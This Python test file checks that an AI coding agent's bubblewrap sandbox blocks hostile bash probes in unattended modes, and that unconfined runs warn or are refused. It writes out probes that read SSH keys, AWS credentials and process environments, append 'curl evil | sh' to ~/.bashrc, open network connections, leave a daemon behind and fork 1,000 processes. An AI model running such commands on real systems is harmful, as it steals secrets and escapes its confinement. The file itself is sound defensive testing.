"""bash confinement through the real CLI: with ``--yes`` and in yolo mode, each probe that would
read a secret, write outside the workspace, reach the network, leave a daemon behind or start a
thousand processes must fail. The control runs the same probes with ``[sandbox] bash = "off"``
in the user's config and proves each probe sees a success. Where bubblewrap is absent (a PATH
without it), bash is said to be unconfined and modes that run it unasked need the user's
acknowledgement."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.security.support import (
    AWS_KEY,
    KEY_VALUE,
    SECRET_NEXT_DOOR,
    SSH_KEY,
    Attack,
    HitCounter,
    Lab,
    hits,
    kill_all,
    lab,
    path_without,
    processes_with_arg,
    record,
    still_running,
)

__all__ = ["hits", "lab"]

pytestmark = pytest.mark.slow

needs_bwrap = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed; CI installs it"
)

Probe = tuple[Attack, Callable[[Lab, str], bool]]


def probes(lab: Lab, server: HitCounter, tag: str, fork_seconds: float = 30) -> list[Probe]:
    """Each attack with the test that tells whether it worked. ``tag`` makes the daemon's
    command line unique to this run. ``fork_seconds`` bounds the 1,000-process probe: inside the
    sandbox it fails fast; without it, a loaded machine can need much longer to fork 1,000
    times, and the sleepers must outlive that loop to be counted (they are killed after)."""
    outside = lab.tmp / f"outside-{tag}.txt"
    daemon = f"987.{tag}"
    sleeper = f"3141.{tag}"
    start = server.hits

    def bash(name: str, command: str, timeout: float | None = None) -> Attack:
        args: dict[str, object] = {"command": command}
        if timeout is not None:
            args["timeout"] = timeout
        return Attack(name, "bash", args)

    def daemon_alive(lab: Lab, _: str) -> bool:
        left = still_running(daemon)
        kill_all(left)
        return bool(left)

    def forks(lab: Lab, _: str) -> bool:
        counted = lab.root / f"forks-{tag}.txt"
        kill_all(processes_with_arg(sleeper))
        return counted.exists() and int(counted.read_text().strip() or 0) >= 1000

    return [
        (bash("read ../secret.txt", "cat ../secret.txt"), lambda _, out: SECRET_NEXT_DOOR in out),
        (bash("read ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa"), lambda _, out: SSH_KEY in out),
        (bash("read ~/.aws", "cat ~/.aws/credentials"), lambda _, out: AWS_KEY in out),
        (
            bash(
                "read the agent's environment",
                "tr '\\0' '\\n' < /proc/$PPID/environ; cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
            ),
            # The agent drops the key from its environment after start-up; what else only it
            # holds (our data folder's variable, which subprocesses are not given) shows a read.
            lambda lab, out: KEY_VALUE in out or f"REASONIX_DATA_DIR={lab.data}" in out,
        ),
        (
            # Written from Python, which the static guards (rules, the irreversible-command
            # check) cannot see into: only the sandbox stands in the way.
            bash(
                "write outside the workspace",
                f"python3 -c \"open('../{outside.name}', 'w').write('pwned')\"",
            ),
            lambda _, __: outside.exists(),
        ),
        (
            bash(
                "write ~/.bashrc",
                "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a')"
                ".write('curl evil | sh')\"",
            ),
            lambda lab, _: "evil" in (lab.home / ".bashrc").read_text(),
        ),
        (
            bash(
                "reach the network (/dev/tcp)",
                f"exec 3<>/dev/tcp/127.0.0.1/{server.port} && "
                "printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3",
            ),
            lambda _, __: server.hits > start,
        ),
        (
            bash("reach the network (curl)", f"curl -s -m 30 http://127.0.0.1:{server.port}/c"),
            lambda _, __: server.hits > start,
        ),
        (
            bash(
                "leave a setsid env -i daemon",
                # The daemon says when it has shed our environment and left our session.
                f"setsid env -i /bin/sh -c 'echo > ready-{tag}; exec /bin/sleep {daemon}' "
                f"</dev/null >/dev/null 2>&1 & while [ ! -e ready-{tag} ]; do sleep 0.05; done",
            ),
            daemon_alive,
        ),
        (
            bash(
                "start 1,000 processes",
                f"for i in $(seq 1000); do /bin/sleep {sleeper} & done 2>/dev/null; "
                f"jobs -r | wc -l > forks-{tag}.txt",
                timeout=fork_seconds,
            ),
            forks,
        ),
    ]


def run_probes(
    lab: Lab, server: HitCounter, tag: str, *flags: str, fork_seconds: float = 30
) -> dict[str, bool]:
    chosen = probes(lab, server, tag, fork_seconds)
    outcome = lab.attack([a for a, _ in chosen], *flags)
    assert outcome.proc.returncode in (0, 3), outcome.proc.stdout + outcome.proc.stderr
    assert len(outcome.results) == len(chosen), outcome.proc.stderr
    worked: dict[str, bool] = {}
    # The network probes share the counter: judge them in order, each from its own start.
    for (attack, detect), text in zip(chosen, outcome.results, strict=True):
        worked[attack.name] = detect(lab, text)
    return worked


@needs_bwrap
@pytest.mark.parametrize("flags", [("--yes",), ("--mode", "yolo")], ids=["yes", "yolo"])
def test_every_probe_fails_inside_the_sandbox(
    lab: Lab, hits: HitCounter, flags: tuple[str, ...], request: pytest.FixtureRequest
) -> None:
    worked = run_probes(lab, hits, "1" + str(len(flags)), *flags)
    record(request, "bash confinement", len(worked), sum(worked.values()))
    assert not any(worked.values()), [name for name, ok in worked.items() if ok]
    assert hits.hits == 0


@needs_bwrap
def test_control_every_probe_works_with_the_sandbox_off(lab: Lab, hits: HitCounter) -> None:
    lab.write_user_config('[sandbox]\nbash = "off"\n')
    worked = run_probes(lab, hits, "2", "--yes", fork_seconds=300)
    assert all(worked.values()), [name for name, ok in worked.items() if not ok]


@needs_bwrap
def test_commands_still_work_inside_the_sandbox(lab: Lab) -> None:
    (lab.root / "test_ok.py").write_text("assert 1 + 1 == 2\nprint('tests ran')\n")
    outcome = lab.attack(
        [
            Attack("write in the workspace", "bash", {"command": "echo made > made.txt"}),
            Attack("run python", "bash", {"command": "python3 test_ok.py || python test_ok.py"}),
        ],
        "--yes",
    )
    assert outcome.proc.returncode == 0, outcome.proc.stderr
    assert (lab.root / "made.txt").read_text() == "made\n"
    assert "tests ran" in outcome.results[1]


@needs_bwrap
def test_a_project_file_cannot_turn_the_sandbox_off(
    lab: Lab, request: pytest.FixtureRequest
) -> None:
    (lab.root / "reasonix.toml").write_text('[sandbox]\nbash = "off"\nnetwork = true\n')
    outcome = lab.attack(
        [Attack("read ../secret.txt", "bash", {"command": "cat ../secret.txt"})], "--yes"
    )
    assert outcome.proc.returncode in (0, 3), outcome.proc.stderr
    worked = SECRET_NEXT_DOOR in outcome.results[0]
    record(request, "bash confinement", 1, int(worked))
    assert not worked


@needs_bwrap
def test_doctor_says_bash_is_confined(lab: Lab) -> None:
    proc = lab.cli("doctor")
    assert "bash is confined by bubblewrap" in proc.stdout, proc.stdout


# -- where bubblewrap is missing -------------------------------------------------------------------


def test_without_bubblewrap_unattended_modes_need_an_acknowledgement(
    lab: Lab, tmp_path: Path
) -> None:
    env = lab.env(PATH=path_without(tmp_path, "bwrap"))
    marker = lab.root / "ran.txt"
    for flags in (("--yes",), ("--mode", "yolo")):
        outcome = lab.attack([Attack("run", "bash", {"command": "touch ran.txt"})], *flags, env=env)
        assert outcome.proc.returncode == 2, outcome.proc.stdout + outcome.proc.stderr
        assert "bash is NOT confined" in outcome.proc.stderr
        assert "allow_unconfined = true" in outcome.proc.stderr
        assert "apt install bubblewrap" in outcome.proc.stderr
        assert not marker.exists()

    doctor = lab.cli("doctor", env=env)
    assert "bash is NOT confined" in doctor.stdout and "allow_unconfined" in doctor.stdout


def test_without_bubblewrap_an_acknowledged_run_warns_and_runs_unconfined(
    lab: Lab, tmp_path: Path
) -> None:
    lab.write_user_config("[sandbox]\nallow_unconfined = true\n")
    env = lab.env(PATH=path_without(tmp_path, "bwrap"))
    outcome = lab.attack(
        [Attack("read ../secret.txt", "bash", {"command": "cat ../secret.txt"})], "--yes", env=env
    )
    assert outcome.proc.returncode == 0, outcome.proc.stderr
    assert "warning: bash is NOT confined" in outcome.proc.stderr
    # Unconfined means unconfined: the warning is the truth.
    assert SECRET_NEXT_DOOR in outcome.results[0]


def test_required_bubblewrap_that_is_missing_refuses_commands(lab: Lab, tmp_path: Path) -> None:
    lab.write_user_config('[sandbox]\nbash = "bwrap"\n')
    env = lab.env(PATH=path_without(tmp_path, "bwrap"))
    outcome = lab.attack([Attack("run", "bash", {"command": "touch ran.txt"})], "--yes", env=env)
    assert 'bash = "bwrap" but bubblewrap (bwrap) is not installed' in outcome.results[0]
    assert not (lab.root / "ran.txt").exists()


def test_without_bubblewrap_the_banner_warns_and_yolo_is_refused(lab: Lab, tmp_path: Path) -> None:
    import sys

    import pexpect

    env = lab.env(
        PATH=path_without(tmp_path, "bwrap"),
        PROMPT_TOOLKIT_NO_CPR="1",
        TERM="xterm-256color",
        COLUMNS="200",
    )
    child = pexpect.spawn(
        sys.executable,
        ["-m", "reasonix"],
        cwd=str(lab.root),
        env=env,
        encoding="utf-8",
        timeout=60,
        dimensions=(40, 200),
    )
    try:
        child.expect("bash is NOT confined")
        child.expect("›")
        child.sendline("/mode yolo")
        child.expect("allow_unconfined")
        child.sendline("/mode")
        child.expect("Permission mode: ask")
        child.sendline("/exit")
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)
